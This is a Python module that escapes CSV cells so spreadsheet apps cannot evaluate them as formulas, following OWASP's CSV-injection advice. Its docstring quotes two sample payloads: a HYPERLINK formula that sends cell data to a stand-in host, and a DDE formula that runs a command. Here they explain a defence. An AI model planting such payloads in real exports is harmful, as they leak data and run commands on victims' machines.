"""Every CSV the product writes goes through here, so that no cell can run as a spreadsheet formula.

A title such as ``=HYPERLINK("http://evil.example/?"&A1)`` or ``=cmd|' /C calc'!A0`` is data to us and a formula
to Excel, LibreOffice and Google Sheets, which run it when the export is opened. OWASP's advice (CSV Injection):
prefix a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return with a single quote, which the
spreadsheet shows as text and does not evaluate. Numbers stay numbers: a negative share-price move written as
the number -5.0 is not a formula, and quoting it would turn a column of figures into text.
"""

import csv
import re
from decimal import Decimal
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Text that is nothing but a plain decimal number ("-5", "+3.5", "-1e3") is read as that number and runs nothing.
PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: numbers as they are, text that a spreadsheet would run quoted."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """``csv.writer`` with every cell passed through ``csv_cell``."""

    def __init__(self, stream: _Writable, **options: Any):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: list[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: list[list[Any]]) -> None:
        for row in rows:
            self.writerow(row)
